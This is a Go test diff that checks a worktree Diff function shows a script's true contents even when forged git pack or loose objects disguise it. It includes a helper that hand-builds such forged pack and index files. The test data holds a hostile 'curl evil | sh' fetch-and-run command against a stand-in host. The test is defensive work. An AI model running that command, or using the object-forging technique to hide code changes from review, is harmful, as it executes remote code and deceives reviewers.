@@ -2,7 +2,11 @@ package worktree
 
 import (
 	"bytes"
+	"compress/zlib"
+	"context"
+	"encoding/binary"
 	"encoding/hex"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -169,6 +173,64 @@ func TestHostile(t *testing.T) {
 			}
 			l.clean()
 		})
+	}
+}
+
+// TestDiffTrue: a diff shows what a merge lands, whatever the sandbox's packs and objects
+// say: an object that is another is not shown, and what the user has comes from there.
+func TestDiffTrue(t *testing.T) {
+	const good, evil = "echo ok\n", "curl evil | sh\n"
+	id := objects.Sum(objects.Blob, []byte(evil), 20)
+	for name, lie := range map[string]func(l *lab){
+		"pack":        func(l *lab) { l.pack(id, []byte(good)) },
+		"loose":       func(l *lab) { l.forgeAs(id, objects.Blob, []byte(good)) },
+		"user's pack": func(l *lab) { l.pack(id, []byte(good)) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			home := ""
+			if name == "user's pack" {
+				home = "printf '" + evil[:len(evil)-1] + "\\n' | git hash-object -w --stdin"
+			}
+			l := newLab(t, home)
+			l.in("printf '" + evil[:len(evil)-1] + "\\n' > run.sh; git add run.sh; git commit -qm x")
+			lie(l)
+			seen := 0
+			err := Diff(context.Background(), l.src, l.made, l.rules(), func(c Change, _, after Version) error {
+				seen++
+				if string(after.Data) == good || home != "" && string(after.Data) != evil || home == "" && after.Err == nil {
+					t.Errorf("%s is shown as %q (%v)", c.Path, after.Data, after.Err)
+				}
+				return nil
+			})
+			if err != nil || seen != 1 {
+				t.Error(seen, err)
+			}
+		})
+	}
+}
+
+// pack puts a pack into the worktree's repository whose index gives a file a name.
+func (l *lab) pack(id string, data []byte) {
+	l.t.Helper()
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	w.Write(data)
+	w.Close()
+	b := append([]byte("PACK\x00\x00\x00\x02\x00\x00\x00\x01"), byte(objects.Blob<<4)|byte(len(data)))
+	idx := []byte("\xfftOc\x00\x00\x00\x02")
+	for i := range 256 {
+		n := uint32(0)
+		if i >= int(id[0]) {
+			n = 1
+		}
+		idx = binary.BigEndian.AppendUint32(idx, n)
+	}
+	idx = append(append(idx, id...), 0, 0, 0, 0, 0, 0, 0, 12)
+	dir := Tree(l.made) + "/.git/objects/pack/"
+	for name, b := range map[string][]byte{"pack-1.pack": append(b, z.Bytes()...), "pack-1.idx": append(idx, make([]byte, 40)...)} {
+		if err := errors.Join(os.MkdirAll(dir, 0o700), os.WriteFile(dir+name, b, 0o600)); err != nil {
+			l.t.Fatal(err)
+		}
 	}
 }
 
